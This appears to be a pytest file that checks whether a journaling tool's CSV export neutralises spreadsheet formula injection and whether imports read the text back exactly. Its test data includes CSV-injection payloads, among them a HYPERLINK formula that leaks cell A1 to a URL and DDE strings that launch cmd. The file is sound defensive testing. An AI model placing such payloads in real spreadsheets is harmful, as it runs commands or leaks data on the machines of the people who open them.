"""CSV for a spreadsheet: nothing in it is evaluated, and it reads back exactly as written."""

from __future__ import annotations

import csv
import json
from datetime import timedelta
from pathlib import Path

import pytest

from skill.portable.formats import neutralised, restored
from skill.storage.records import Profile, StoredWin
from skill.storage.sqlite.store import SqliteWinStore
from tests.conftest import pinned_now
from tests.portable.files import ALEX, kept, run

TEXTS = [
    '=HYPERLINK("https://example.com/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tmade tea",
    "\rmade tea",
    "'=was quoted already",
    "''+twice",
    "'just an apostrophe first",
    "line one\r\nline two",
    "a carriage\rreturn",
    'said "no", kindly, to a, b and c',
    "did the laundry",
]
EVALUATED = ("=", "+", "-", "@", "\t", "\r")


def seed(data_dir: Path) -> None:
    start = pinned_now() - timedelta(days=1)
    wins = [StoredWin(n, text, start + timedelta(minutes=n)) for n, text in enumerate(TEXTS, 1)]
    store = SqliteWinStore(data_dir)
    store.restore(ALEX, Profile(win_count=len(wins)), wins)
    store.close()


def cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as source:
        return list(csv.reader(source))


def test_no_cell_of_a_csv_export_is_evaluated_by_a_spreadsheet(tmp_path: Path) -> None:
    seed(tmp_path / "home")

    assert run("export", "--data-dir", str(tmp_path / "home"), "-o", str(tmp_path / "w.csv")) == 0

    rows = cells(tmp_path / "w.csv")
    assert rows[0] == ["person", "account", "number", "created_at", "told_at", "kind", "text"]
    assert not [cell for row in rows for cell in row if cell.startswith(EVALUATED)]
    texts = [row[6] for row in rows[1:]]
    assert texts[:4] == [f"'{text}" for text in TEXTS[:4]]
    assert texts[6:9] == ["''=was quoted already", "'''+twice", "'just an apostrophe first"]


@pytest.mark.parametrize("bom", [False, True])
@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_an_export_reads_back_exactly_line_breaks_quotes_and_all(
    tmp_path: Path, suffix: str, bom: bool
) -> None:
    seed(tmp_path / "home")
    file = tmp_path / f"wins{suffix}"
    assert run("export", "--data-dir", str(tmp_path / "home"), "-o", str(file)) == 0
    if bom:  # as a spreadsheet or an editor on Windows saves it
        file.write_bytes(b"\xef\xbb\xbf" + file.read_bytes())

    assert run("import", "--data-dir", str(tmp_path / "copy"), str(file)) == 0

    assert kept(tmp_path / "copy")[ALEX.key]["wins"] == kept(tmp_path / "home")[ALEX.key]["wins"]
    assert [win[1] for win in kept(tmp_path / "copy")[ALEX.key]["wins"]] == TEXTS


@pytest.mark.parametrize("cell", [*TEXTS, "", "'", "''", "'=", "=", "plain"])
def test_reading_back_takes_away_exactly_the_quote_writing_put(cell: str) -> None:
    assert restored(neutralised(cell)) == cell
    assert not neutralised(cell).startswith(EVALUATED)


def test_a_quote_written_by_someone_else_is_kept(tmp_path: Path) -> None:
    table = tmp_path / "mine.csv"
    table.write_text(
        "person,account,number,created_at,kind,text\r\n"
        f"{ALEX.key},{ALEX.account},1,2026-11-20T10:00:00Z,said,'tis done\r\n",
        encoding="utf-8",
    )

    assert run("import", "--data-dir", str(tmp_path / "data"), str(table)) == 0

    assert kept(tmp_path / "data")[ALEX.key]["wins"][0][1] == "'tis done"


def test_a_file_that_is_not_utf8_is_explained(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    table = tmp_path / "wins.csv"
    header = "person,account,number,created_at,kind,text\r\n"
    table.write_bytes(header.encode("utf-16"))

    assert run("import", "--data-dir", str(tmp_path / "data"), str(table)) == 2

    assert "not UTF-8" in capsys.readouterr().err
    assert json.dumps(kept(tmp_path / "data")) == "{}"
